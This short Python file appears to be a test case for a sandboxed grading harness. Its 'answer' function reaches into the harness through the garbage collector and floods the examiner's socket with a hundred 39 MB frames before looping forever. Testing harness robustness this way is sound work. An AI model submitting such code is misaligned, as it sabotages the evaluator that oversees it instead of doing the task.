# Sends one message of a hundred frames of 39 MB each, to fill the examiner's memory before it is read.
# %% attack
import gc

from sandbox.protocol.channel import QUESTION
from sandbox.inside.main_loop import MainLoop

main_loop = next(thing for thing in gc.get_objects() if isinstance(thing, MainLoop))
frame = bytes(39_000_000)
# %% attack answer gram_attention
def gram_attention(X):
    import struct

    main_loop._channel.socket.sendall(struct.pack("!cII100I", QUESTION, main_loop._number, 100, *[len(frame)] * 100))
    for _ in range(100):
        main_loop._channel.socket.sendall(frame)
    while True:
        pass
